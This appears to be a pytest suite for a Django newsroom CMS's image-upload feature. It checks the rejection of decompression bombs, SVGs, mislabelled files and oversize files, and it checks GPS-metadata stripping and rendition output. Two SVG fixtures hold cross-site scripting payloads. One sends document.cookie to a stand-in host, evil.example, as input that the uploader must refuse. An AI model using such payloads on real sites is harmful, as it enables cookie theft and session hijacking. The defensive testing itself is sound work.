"""Uploading through the desk: what is refused, why, and what an accepted image becomes."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from PIL import ExifTags
from PIL import Image as PILImage

from dateline.media import actions
from dateline.media.renditions import make_renditions
from dateline.news.models import Image

from .conftest import encoded, files_under, gps_exif, photo, picture, png_header_only

URL = "/desk/media/upload/"

SVG_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script>
<rect width="10" height="10"/></svg>"""
SVG_ONLOAD = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//evil.example/'+document.cookie)">
<circle r="4"/></svg>"""


def post(client, name, data, content_type="image/jpeg", **fields):
    upload = SimpleUploadedFile(name, data, content_type=content_type)
    return client.post(URL, {"file": upload, "alt_text": "A test picture", "caption": "", "credit": "", **fields})


def file_error(response):
    return " ".join(response.context["form"].errors.get("file", []))


REFUSALS = [
    # (what, file name, bytes, browser's content type, words the message must have)
    ("a PNG whose header claims 20000 × 20000 pixels", "bomb.png", png_header_only(20000, 20000), "image/png",
     "the library takes at most 40 megapixels"),
    ("a PNG of 8000 × 8000 pixels, under Pillow's own guard but over ours", "big.png",
     png_header_only(8000, 8000), "image/png", "8000 × 8000 pixels (64 megapixels)"),
    ("an SVG with a script", "logo.svg", SVG_SCRIPT, "image/svg+xml", "SVG files are not accepted"),
    ("an SVG with onload=, named .png", "logo.png", SVG_ONLOAD, "image/png", "SVG files are not accepted"),
    ("a text file named .jpg", "holiday.jpg", b"Dear editor,\nplease find my photo attached.\n", "image/jpeg",
     "“holiday.jpg” is not a JPEG, PNG, WebP or GIF image (it is text), whatever its name says"),
    ("a PDF named .jpg", "scan.jpg", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "image/jpeg", "it is a PDF document"),
    ("an empty file", "empty.jpg", b"", "image/jpeg", "The submitted file is empty."),
    ("a JPEG cut off half-way", "cut.jpg", photo()[:6000], "image/jpeg", "is damaged or incomplete"),
    ("a TIFF, which readers' browsers cannot show", "scan.tif", encoded(picture((40, 30)), "TIFF"), "image/tiff",
     "it is a TIFF image"),
]


@pytest.mark.parametrize("what,name,data,content_type,message", REFUSALS, ids=[r[0] for r in REFUSALS])
def test_a_bad_file_is_refused_with_a_clear_message_and_leaves_nothing_behind(
        desk, media_root, what, name, data, content_type, message):
    response = post(desk, name, data, content_type)
    assert response.status_code == 400
    assert message in file_error(response)
    assert escape(message) in response.content.decode()
    assert Image.objects.count() == 0
    assert files_under(media_root) == []


def test_an_oversize_file_is_refused_before_it_is_stored(desk, media_root, settings):
    settings.DATELINE = {**settings.DATELINE, "MEDIA_MAX_BYTES": 20_000}
    data = photo((800, 600), quality=95)
    assert len(data) > 20_000
    response = post(desk, "large.jpg", data)
    assert response.status_code == 400
    assert "The file is larger than 19.5\xa0KB" in file_error(response)
    assert Image.objects.count() == 0 and files_under(media_root) == []


def test_an_oversize_file_is_refused_by_the_action_too(db, media_root, settings):
    settings.DATELINE = {**settings.DATELINE, "MEDIA_MAX_BYTES": 20_000}
    with pytest.raises(actions.UploadRefused, match="larger than"):
        actions.upload_image(SimpleUploadedFile("large.jpg", photo((800, 600), quality=95)))
    assert Image.objects.count() == 0 and files_under(media_root) == []


def test_the_pixel_cap_follows_the_setting(desk, media_root, settings):
    settings.DATELINE = {**settings.DATELINE, "MEDIA_MAX_PIXELS": 1_000_000}
    response = post(desk, "wide.jpg", photo((1600, 900)))
    assert response.status_code == 400
    assert "1600 × 900 pixels (1.44 megapixels); the library takes at most 1 megapixels" in file_error(response)
    assert Image.objects.count() == 0 and files_under(media_root) == []


def test_a_failure_while_storing_removes_what_was_written(db, media_root, monkeypatch):
    import dateline.media.renditions as renditions

    real = renditions.encode
    calls = []

    def flaky(image, key):
        calls.append(key)
        if len(calls) == 4:
            raise OSError("disk full")
        return real(image, key)

    monkeypatch.setattr(renditions, "encode", flaky)
    with pytest.raises(OSError):
        actions.upload_image(SimpleUploadedFile("boats.jpg", photo()), alt_text="Boats")
    assert Image.objects.count() == 0 and files_under(media_root) == []


def rendition_files(image, media_root):
    return {r["name"]: media_root / r["name"] for r in image.renditions}


def test_a_good_jpeg_is_kept_with_renditions_and_without_its_location(desk, media_root):
    data = photo((1600, 900), exif=gps_exif())
    assert PILImage.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the upload has a location

    response = post(desk, "Harbour at dawn.JPG", data, caption="Dawn", credit="Ada Reporter")
    image = Image.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/desk/media/{image.pk}/"
    assert (image.width, image.height) == (1600, 900)
    assert (image.alt_text, image.caption, image.credit) == ("A test picture", "Dawn", "Ada Reporter")
    assert image.file.name.endswith(".jpg") and "harbour-at-dawn" in image.file.name

    assert sorted((r["width"], r["height"], r["format"]) for r in image.renditions) == [
        (480, 270, "jpeg"), (480, 270, "webp"), (800, 450, "jpeg"), (800, 450, "webp"),
        (1200, 675, "jpeg"), (1200, 675, "webp")]
    stored = [media_root / image.file.name, *rendition_files(image, media_root).values()]
    assert set(files_under(media_root)) == set(stored)
    for path in stored:
        assert path.is_relative_to(media_root / "images") or path.is_relative_to(media_root / "renditions")
        raw = path.read_bytes()
        opened = PILImage.open(io.BytesIO(raw))
        assert not opened.getexif(), path
        assert "exif" not in opened.info and b"Exif\x00\x00" not in raw and b"Phonemaker" not in raw, path
    for rendition in image.renditions:
        opened = PILImage.open(media_root / rendition["name"])
        assert opened.size == (rendition["width"], rendition["height"])
        assert opened.format == {"jpeg": "JPEG", "webp": "WEBP"}[rendition["format"]]


def test_renditions_are_made_once_and_a_second_call_rewrites_nothing(db, media_root):
    image = actions.upload_image(SimpleUploadedFile("boats.jpg", photo()), alt_text="Boats")
    files = rendition_files(image, media_root)
    before = {name: path.stat().st_mtime_ns for name, path in files.items()}
    listed = list(image.renditions)

    again = make_renditions(Image.objects.get(pk=image.pk))
    assert again == listed
    assert {name: path.stat().st_mtime_ns for name, path in files.items()} == before
    assert len(files_under(media_root / "renditions")) == len(listed)


def test_a_png_named_jpg_is_taken_as_the_png_it_is(desk, media_root):
    rgba = picture((900, 600)).convert("RGBA")
    rgba.putalpha(128)
    response = post(desk, "chart.jpg", encoded(rgba, "PNG"), content_type="image/jpeg")
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.file.name.endswith(".png")
    assert PILImage.open(image.file.path).format == "PNG"
    jpeg = next(r for r in image.renditions if r["format"] == "jpeg")
    assert PILImage.open(media_root / jpeg["name"]).mode == "RGB"  # laid on white: JPEG has no transparency
    webp = next(r for r in image.renditions if r["format"] == "webp")
    assert PILImage.open(media_root / webp["name"]).mode == "RGBA"
    assert sorted({r["width"] for r in image.renditions}) == [480, 800, 900]  # the largest is the original's width


def test_a_small_image_is_never_enlarged(db):
    image = actions.upload_image(SimpleUploadedFile("icon.png", photo((300, 200), "PNG")), alt_text="Icon")
    assert {(r["width"], r["height"]) for r in image.renditions} == {(300, 200)}


def test_a_sideways_phone_photo_is_stood_upright(db, media_root):
    data = photo((600, 400), exif=gps_exif(orientation=6))  # "rotate 90° clockwise to view"
    image = actions.upload_image(SimpleUploadedFile("phone.jpg", data), alt_text="Portrait")
    assert (image.width, image.height) == (400, 600)
    assert PILImage.open(image.file.path).size == (400, 600)
    assert {(r["width"], r["height"]) for r in image.renditions} == {(400, 600)}


def test_webp_and_animated_gif_are_accepted_and_a_gif_keeps_its_first_frame(db, media_root):
    webp = actions.upload_image(SimpleUploadedFile("a.webp", photo((640, 360), "WEBP")), alt_text="W")
    assert webp.file.name.endswith(".webp") and (webp.width, webp.height) == (640, 360)

    frames = [PILImage.new("RGB", (500, 300), colour) for colour in ("red", "blue", "green")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    gif = actions.upload_image(SimpleUploadedFile("spinner.gif", out.getvalue()), alt_text="Spinner")
    assert gif.file.name.endswith(".png")
    jpeg = next(r for r in gif.renditions if r["format"] == "jpeg")
    red, green, blue = PILImage.open(media_root / jpeg["name"]).convert("RGB").getpixel((250, 150))
    assert red > 200 and green < 60 and blue < 60


def test_a_camera_mpo_is_taken_as_the_jpeg_it_starts_with(db):
    out = io.BytesIO()
    picture((800, 450)).save(out, "MPO", save_all=True, append_images=[picture((800, 450)).rotate(180)])
    image = actions.upload_image(SimpleUploadedFile("DSCF0001.MPO", out.getvalue()), alt_text="Stereo")
    assert image.file.name.endswith(".jpg") and (image.width, image.height) == (800, 450)


def test_a_sixteen_bit_greyscale_png_comes_out_grey_not_white(db, media_root):
    grey = PILImage.new("I;16", (500, 300), 20000)
    image = actions.upload_image(SimpleUploadedFile("scan.png", encoded(grey, "PNG")), alt_text="Scan")
    jpeg = next(r for r in image.renditions if r["format"] == "jpeg")
    level = PILImage.open(media_root / jpeg["name"]).convert("L").getpixel((10, 10))
    assert 70 < level < 85  # 20000 / 65535 of white


def test_an_image_without_alt_text_is_accepted_but_cannot_lead_a_published_story(newsroom):
    from dateline.news import actions as news

    image = actions.upload_image(SimpleUploadedFile("x.jpg", photo((640, 360))))
    story = newsroom.story(newsroom.section("World"), publish=False, lead_image=image)
    with pytest.raises(news.WorkflowError, match="alt text"):
        news.publish_story(story)
